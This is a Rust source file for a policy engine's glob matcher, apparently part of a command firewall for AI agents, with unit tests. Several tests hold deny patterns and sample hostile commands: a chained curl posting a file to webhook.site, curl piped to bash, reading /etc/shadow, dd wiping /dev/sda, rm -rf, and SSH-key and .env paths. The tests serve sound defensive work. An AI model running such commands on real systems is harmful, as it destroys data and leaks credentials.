//! The two glob dialects of the policy language, compiled once at load time.
//!
//! *Command-style* globs (commands, urls, sessions, agents, tools, parameters, variable
//! names) are read in steps, exactly as the reference engine reads them:
//! 1. `*` alone matches anything;
//! 2. a pattern containing `**` is a fully anchored glob where `**` crosses `/` and `*` does not;
//! 3. a pattern ending in one `*` matches any subject that starts with the rest, taken literally;
//!    if that fails the next step still gets a chance;
//! 4. a pattern starting with `*` requires its literal pieces to appear in order anywhere;
//! 5. anything else is a fully anchored glob where neither `*` nor `?` crosses `/`.
//!
//! Deviation D1: in the positive command patterns of restrictive rules every single `*`
//! crosses `/` as well, so a deny cannot be dodged by a path in an argument.
//!
//! *Filesystem* globs (paths) are always the anchored glob of step 2; a leading `**/` may
//! also match zero directories.
//!
//! In both dialects backslashes are read as `/`, on the pattern and on the subject.

use memchr::memmem;

/// Longest pattern accepted, in bytes.
pub const MAX_PATTERN_LEN: usize = 8192;
/// Longest pattern containing `**`, in bytes.
pub const MAX_DOUBLE_STAR_PATTERN_LEN: usize = 256;
/// Most `**` allowed in one pattern.
pub const MAX_DOUBLE_STARS: usize = 2;

/// Which dialect a pattern is read in.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Dialect {
    /// Command-style. `star_crosses_slash` is D1's reading for restrictive rules.
    Command { star_crosses_slash: bool },
    /// Filesystem paths.
    Path,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Tok {
    Lit(char),
    One,
    Star {
        crosses: bool,
    },
    DoubleStar,
    Class {
        negated: bool,
        ranges: Vec<(char, char)>,
    },
}

#[derive(Clone, Debug)]
enum Form {
    Any,
    Never,
    /// No wildcard at all: plain equality.
    Literal(String),
    /// Anchored token matcher; `zero_depth` holds the tokens after a leading `**/`.
    Anchored {
        toks: Vec<Tok>,
        zero_depth: Option<Vec<Tok>>,
    },
    /// Literal prefix test, falling back to `rest`.
    Prefix {
        prefix: String,
        rest: Box<Form>,
    },
    /// Literal pieces in order, anywhere.
    Pieces(Vec<String>),
}

/// A compiled glob.
#[derive(Clone, Debug)]
pub struct Glob {
    form: Form,
}

/// Why a pattern was rejected at load time.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct GlobError(pub String);

impl std::fmt::Display for GlobError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// Checks a pattern against the load-time limits and its bracket syntax.
pub fn validate(pattern: &str) -> Result<(), GlobError> {
    if pattern.len() > MAX_PATTERN_LEN {
        return Err(GlobError(format!(
            "pattern is {} bytes, over the {MAX_PATTERN_LEN}-byte limit",
            pattern.len()
        )));
    }
    let stars = count_double_stars(pattern);
    if stars > MAX_DOUBLE_STARS {
        return Err(GlobError(format!(
            "pattern has {stars} `**`; at most {MAX_DOUBLE_STARS} are allowed"
        )));
    }
    if stars > 0 && pattern.len() > MAX_DOUBLE_STAR_PATTERN_LEN {
        return Err(GlobError(format!(
            "a pattern with `**` may be at most {MAX_DOUBLE_STAR_PATTERN_LEN} bytes (this one is {})",
            pattern.len()
        )));
    }
    // Pieces patterns (leading `*`, no `**`) read `[` literally; everything else parses classes.
    let pieces_only = pattern.starts_with('*') && stars == 0 && pattern != "*";
    if !pieces_only {
        tokenize(&pattern.replace('\\', "/"), false).map(|_| ())?;
    }
    Ok(())
}

/// Non-overlapping count of `**`, as Go's `strings.Count` does.
fn count_double_stars(pattern: &str) -> usize {
    let b = pattern.as_bytes();
    let (mut i, mut n) = (0, 0);
    while i + 1 < b.len() {
        if b[i] == b'*' && b[i + 1] == b'*' {
            n += 1;
            i += 2;
        } else {
            i += 1;
        }
    }
    n
}

fn tokenize(pattern: &str, star_crosses: bool) -> Result<Vec<Tok>, GlobError> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut toks = Vec::with_capacity(chars.len());
    let mut i = 0;
    while i < chars.len() {
        match chars[i] {
            '*' => {
                let mut j = i;
                while j < chars.len() && chars[j] == '*' {
                    j += 1;
                }
                toks.push(if j - i >= 2 {
                    Tok::DoubleStar
                } else {
                    Tok::Star {
                        crosses: star_crosses,
                    }
                });
                i = j;
            }
            '?' => {
                toks.push(Tok::One);
                i += 1;
            }
            '[' => {
                let (tok, next) = parse_class(&chars, i)?;
                toks.push(tok);
                i = next;
            }
            c => {
                toks.push(Tok::Lit(c));
                i += 1;
            }
        }
    }
    Ok(toks)
}

fn parse_class(chars: &[char], open: usize) -> Result<(Tok, usize), GlobError> {
    let mut i = open + 1;
    let negated = chars.get(i) == Some(&'^');
    if negated {
        i += 1;
    }
    let mut ranges = Vec::new();
    loop {
        let Some(&c) = chars.get(i) else {
            return Err(GlobError("unclosed `[` in pattern".into()));
        };
        if c == ']' {
            if ranges.is_empty() {
                return Err(GlobError("empty character class `[]` in pattern".into()));
            }
            return Ok((Tok::Class { negated, ranges }, i + 1));
        }
        let lo = c;
        i += 1;
        if chars.get(i) == Some(&'-') && chars.get(i + 1).is_some_and(|&h| h != ']') {
            let hi = chars[i + 1];
            if hi < lo {
                return Err(GlobError(format!(
                    "character range `{lo}-{hi}` is reversed"
                )));
            }
            ranges.push((lo, hi));
            i += 2;
        } else {
            ranges.push((lo, lo));
        }
    }
}

impl Glob {
    /// Compiles a pattern. Invalid patterns compile to a glob that never matches; loaders
    /// call [`validate`] first to report them.
    pub fn new(pattern: &str, dialect: Dialect) -> Glob {
        let pattern = pattern.replace('\\', "/");
        let form = match dialect {
            Dialect::Path => compile_anchored(&pattern, false),
            Dialect::Command { star_crosses_slash } => {
                compile_command(&pattern, star_crosses_slash)
            }
        };
        Glob { form }
    }

    /// Reports whether `subject` matches.
    pub fn is_match(&self, subject: &str) -> bool {
        if subject.contains('\\') {
            form_matches(&self.form, &subject.replace('\\', "/"))
        } else {
            form_matches(&self.form, subject)
        }
    }

    /// Literals that every matching subject contains, longest first (runs shorter than
    /// three characters are left out unless nothing longer exists). Empty when the glob
    /// requires no literal.
    pub fn required_literals(&self) -> Vec<String> {
        let mut runs = form_runs(&self.form);
        runs.retain(|r| !r.is_empty());
        runs.sort_by_key(|r| std::cmp::Reverse(r.chars().count()));
        runs.dedup();
        if runs.len() > 1 {
            let keep = runs
                .iter()
                .filter(|r| r.chars().count() >= 3)
                .count()
                .max(1);
            runs.truncate(keep);
        }
        runs
    }

    /// True when the glob matches every subject.
    pub fn matches_everything(&self) -> bool {
        matches!(self.form, Form::Any)
    }

    /// True when the glob can match nothing.
    pub fn matches_nothing(&self) -> bool {
        matches!(self.form, Form::Never)
    }
}

fn compile_command(pattern: &str, star_crosses: bool) -> Form {
    if pattern.is_empty() {
        return Form::Never;
    }
    if pattern == "*" {
        return Form::Any;
    }
    if pattern.contains("**") {
        return compile_anchored(pattern, star_crosses);
    }
    if let Ok(toks) = tokenize(pattern, star_crosses)
        && let Some(lit) = literal_of(&toks)
    {
        return Form::Literal(lit);
    }
    let rest = if pattern.starts_with('*') {
        Form::Pieces(
            pattern
                .split('*')
                .filter(|p| !p.is_empty())
                .map(str::to_string)
                .collect(),
        )
    } else {
        match tokenize(pattern, star_crosses) {
            Ok(toks) => Form::Anchored {
                toks,
                zero_depth: None,
            },
            Err(_) => Form::Never,
        }
    };
    match pattern.strip_suffix('*') {
        Some(prefix) => Form::Prefix {
            prefix: prefix.to_string(),
            rest: Box::new(rest),
        },
        None => rest,
    }
}

fn compile_anchored(pattern: &str, star_crosses: bool) -> Form {
    if pattern.is_empty() || count_double_stars(pattern) > MAX_DOUBLE_STARS {
        return Form::Never;
    }
    let Ok(toks) = tokenize(pattern, star_crosses) else {
        return Form::Never;
    };
    if let Some(lit) = literal_of(&toks) {
        return Form::Literal(lit);
    }
    let zero_depth = match pattern.strip_prefix("**/") {
        Some(rest) => tokenize(rest, star_crosses).ok(),
        None => None,
    };
    Form::Anchored { toks, zero_depth }
}

/// The text of a token list made only of literal characters.
fn literal_of(toks: &[Tok]) -> Option<String> {
    toks.iter()
        .map(|t| match t {
            Tok::Lit(c) => Some(*c),
            _ => None,
        })
        .collect()
}

fn form_matches(form: &Form, subject: &str) -> bool {
    match form {
        Form::Any => true,
        Form::Never => false,
        Form::Literal(l) => subject == l,
        Form::Anchored { toks, zero_depth } => {
            run_tokens(toks, subject) || zero_depth.as_ref().is_some_and(|z| run_tokens(z, subject))
        }
        Form::Prefix { prefix, rest } => {
            subject.starts_with(prefix.as_str()) || form_matches(rest, subject)
        }
        Form::Pieces(pieces) => {
            let mut hay = subject.as_bytes();
            for piece in pieces {
                match memmem::find(hay, piece.as_bytes()) {
                    Some(at) => hay = &hay[at + piece.len()..],
                    None => return false,
                }
            }
            true
        }
    }
}

fn form_runs(form: &Form) -> Vec<String> {
    match form {
        Form::Any | Form::Never => Vec::new(),
        Form::Literal(l) => vec![l.clone()],
        Form::Anchored { toks, zero_depth } => all_runs(zero_depth.as_deref().unwrap_or(toks)),
        Form::Prefix { rest, .. } => form_runs(rest),
        Form::Pieces(pieces) => pieces.clone(),
    }
}

/// Maximal runs of characters every match contains. A class that only spells one letter in
/// either case (`[wW]`) counts as that letter: the literal prefilter ignores ASCII case.
fn all_runs(toks: &[Tok]) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for t in toks {
        match t {
            Tok::Lit(c) => cur.push(*c),
            Tok::Class {
                negated: false,
                ranges,
            } if single_letter(ranges).is_some() => cur.push(single_letter(ranges).unwrap_or('?')),
            _ if !cur.is_empty() => out.push(std::mem::take(&mut cur)),
            _ => {}
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// The letter a class spells when it only holds that letter in one or both ASCII cases.
fn single_letter(ranges: &[(char, char)]) -> Option<char> {
    let first = ranges.first()?.0.to_ascii_lowercase();
    ranges
        .iter()
        .all(|&(lo, hi)| lo == hi && lo.to_ascii_lowercase() == first)
        .then_some(first)
}

fn class_matches(negated: bool, ranges: &[(char, char)], c: char) -> bool {
    let inside = ranges.iter().any(|&(lo, hi)| lo <= c && c <= hi);
    inside != negated
}

/// Anchored match by simulating the token automaton: state `i` means "the first `i`
/// tokens are matched". Linear in subject length times pattern length, no backtracking.
fn run_tokens(toks: &[Tok], subject: &str) -> bool {
    let n = toks.len() + 1;
    let words = n.div_ceil(64);
    // Patterns are short: keep the state sets on the stack when they fit.
    let mut stack = [0u64; 8];
    let mut heap = Vec::new();
    let states: &mut [u64] = if words * 2 <= stack.len() {
        &mut stack[..words * 2]
    } else {
        heap.resize(words * 2, 0);
        &mut heap
    };
    let (a, b) = states.split_at_mut(words);
    let (mut cur, mut next) = (a, b);
    set(cur, 0);
    close(toks, cur);
    for c in subject.chars() {
        next.iter_mut().for_each(|w| *w = 0);
        let mut any = false;
        for (i, tok) in toks.iter().enumerate() {
            if !get(cur, i) {
                continue;
            }
            match tok {
                Tok::Lit(l) if *l == c => {
                    set(next, i + 1);
                    any = true;
                }
                Tok::One if c != '/' => {
                    set(next, i + 1);
                    any = true;
                }
                Tok::Class { negated, ranges }
                    if c != '/' && class_matches(*negated, ranges, c) =>
                {
                    set(next, i + 1);
                    any = true;
                }
                Tok::Star { crosses } if *crosses || c != '/' => {
                    set(next, i);
                    any = true;
                }
                Tok::DoubleStar => {
                    set(next, i);
                    any = true;
                }
                _ => {}
            }
        }
        if !any {
            return false;
        }
        close(toks, next);
        std::mem::swap(&mut cur, &mut next);
    }
    get(cur, toks.len())
}

/// Stars may match nothing: a live state before a star makes the state after it live.
fn close(toks: &[Tok], states: &mut [u64]) {
    for (i, t) in toks.iter().enumerate() {
        if matches!(t, Tok::Star { .. } | Tok::DoubleStar) && get(states, i) {
            set(states, i + 1);
        }
    }
}

#[inline]
fn get(s: &[u64], i: usize) -> bool {
    s[i / 64] >> (i % 64) & 1 == 1
}

#[inline]
fn set(s: &mut [u64], i: usize) {
    s[i / 64] |= 1 << (i % 64);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(p: &str, s: &str) -> bool {
        Glob::new(
            p,
            Dialect::Command {
                star_crosses_slash: false,
            },
        )
        .is_match(s)
    }
    fn restrictive(p: &str, s: &str) -> bool {
        Glob::new(
            p,
            Dialect::Command {
                star_crosses_slash: true,
            },
        )
        .is_match(s)
    }
    fn path(p: &str, s: &str) -> bool {
        Glob::new(p, Dialect::Path).is_match(s)
    }

    #[test]
    fn star_alone_matches_anything_and_empty_matches_nothing() {
        assert!(cmd("*", ""));
        assert!(cmd("*", "a/b c"));
        assert!(!cmd("", ""));
        assert!(!path("", "x"));
    }

    #[test]
    fn double_star_crosses_slash_single_does_not() {
        assert!(cmd("curl **", "curl https://x/y"));
        assert!(cmd("rm -rf ~/**", "rm -rf ~/project/build"));
        assert!(!cmd("dd **of=/dev/sd*", "dd if=x of=/dev/sda/1"));
        assert!(cmd(
            "dd **of=/dev/sd**",
            "dd if=/dev/zero of=/dev/sda bs=1M"
        ));
        assert!(!cmd("a ** b*c", "a x b/c"));
        assert!(cmd("a ** b*c", "a x/y bzc"));
    }

    #[test]
    fn trailing_star_is_a_literal_prefix_test() {
        assert!(cmd("dd if=*", "dd if=/dev/zero of=/dev/sda"));
        assert!(cmd("git *", "git push origin main"));
        assert!(!cmd("git *", "git"));
        // The prefix is literal: `?` is not a wildcard in this step...
        assert!(cmd("ls ?x*", "ls ?x/y"));
        // ...but the anchored step still runs when the prefix test fails.
        assert!(cmd("ls ?x*", "ls ax1"));
    }

    #[test]
    fn leading_star_matches_pieces_in_order_anywhere() {
        assert!(cmd("*cat /etc/shadow", "sudo cat /etc/shadow"));
        assert!(cmd(
            "*curl*webhook.site*",
            "x; curl -d @f https://webhook.site/abc"
        ));
        assert!(!cmd("*webhook.site*curl*", "curl https://webhook.site/abc"));
        // `?` and `[` are literal here.
        assert!(!cmd("*a?c", "abc"));
        assert!(cmd("*a[b]", "xa[b]"));
    }

    #[test]
    fn middle_star_does_not_cross_slash_in_strict_reading() {
        assert!(cmd(
            "rampart --* allow *",
            "rampart --config x.yaml allow foo"
        ));
        assert!(!cmd(
            "rampart --* allow *",
            "rampart --config /srv/x.yaml allow foo"
        ));
        assert!(!cmd(
            "kubectl * -n production",
            "kubectl --kubeconfig /h/k apply -n production"
        ));
    }

    #[test]
    fn d1_restrictive_star_crosses_slash() {
        assert!(restrictive(
            "rampart --* allow *",
            "rampart --config /srv/x.yaml allow foo"
        ));
        assert!(restrictive(
            "rampart --* allow *",
            "rampart --config x.yaml allow /srv/**"
        ));
        assert!(restrictive(
            "kubectl * -n production",
            "kubectl --kubeconfig /home/u/k apply -n production"
        ));
        // `git *` still needs an argument under either reading.
        assert!(!restrictive("git *", "git"));
        assert!(!cmd("git *", "git"));
        // `?` keeps its meaning.
        assert!(!restrictive("a?b", "a/b"));
        // A single `*` next to `**` crosses too, and does not count towards the `**` limit.
        assert!(restrictive("x ** y * z", "x 1/2 y 3/4 z"));
        assert!(!cmd("x ** y * z", "x 1/2 y 3/4 z"));
    }

    #[test]
    fn classes_and_question_marks() {
        assert!(cmd("rm -[rR]f /", "rm -Rf /"));
        assert!(!cmd("rm -[rR]f /", "rm -xf /"));
        assert!(cmd("ls [^a]b", "ls xb"));
        assert!(!cmd("ls [^a]b", "ls ab"));
        assert!(cmd("a?c", "abc"));
        assert!(!cmd("a?c", "a/c"));
    }

    #[test]
    fn path_dialect() {
        assert!(!path("/approved/*", "/approved/a/b"));
        assert!(path("/approved/*", "/approved/a"));
        assert!(path("*.env", "local.env"));
        assert!(!path("*.env", "nested/local.env"));
        assert!(path("**/.ssh/id_*", "/home/u/.ssh/id_rsa"));
        assert!(path("**/.ssh/id_*", ".ssh/id_rsa"));
        assert!(path("**/.ssh/id_*", "C:\\Users\\A\\.ssh\\id_rsa"));
        assert!(!path("**/.ssh/id_*", "id_rsa"));
        assert!(path("**/.env", ".env"));
        assert!(path("**/.env", "./.env"));
        assert!(!path("**/.env", ".environment"));
        assert!(!path("**/.env", "not-.env"));
        assert!(path("/etc/**", "/etc/passwd"));
        assert!(path("**/*.go", "/project/src/main.go"));
        assert!(path("**/café/**", "/home/user/café/notes.txt"));
        assert!(path("**\\.ssh\\id_*", "/home/u/.ssh/id_ed25519"));
    }

    #[test]
    fn too_many_double_stars_never_match() {
        assert!(!path("**a**b**c", "abc"));
        assert!(!cmd("**a**b**c", "abc"));
        assert!(validate("**a**b**c").is_err());
        assert!(validate("**a**b").is_ok());
        assert!(validate(&format!("**{}", "x".repeat(300))).is_err());
        assert!(validate(&"x".repeat(9000)).is_err());
    }

    #[test]
    fn bad_classes_are_rejected() {
        assert!(validate("ls [abc").is_err());
        assert!(validate("ls []").is_err());
        assert!(validate("ls [z-a]").is_err());
        assert!(validate("*[unclosed").is_ok(), "pieces read `[` literally");
    }

    #[test]
    fn adversarial_double_star_is_linear() {
        let subject = "a".repeat(2048);
        assert!(!cmd("**a**b", &subject));
        assert!(cmd("**a**b", &format!("{subject}b")));
    }

    #[test]
    fn required_literals() {
        let lit = |p: &str, d| Glob::new(p, d).required_literals().first().cloned();
        let c = Dialect::Command {
            star_crosses_slash: false,
        };
        assert_eq!(lit("rm -rf /*", c).as_deref(), Some("rm -rf /"));
        assert_eq!(
            lit("*curl*webhook.site*", c).as_deref(),
            Some("webhook.site")
        );
        assert_eq!(
            lit("**/.ssh/id_*", Dialect::Path).as_deref(),
            Some(".ssh/id_")
        );
        assert_eq!(lit("*", c), None);
        let all = Glob::new("curl ** | bash*", c).required_literals();
        assert_eq!(all, [" | bash", "curl "]);
        assert!(Glob::new("*", c).required_literals().is_empty());
        let folded = Glob::new("**[wW][hH][oO][aA][mM][iI]**", c).required_literals();
        assert_eq!(folded, ["whoami"]);
    }
}
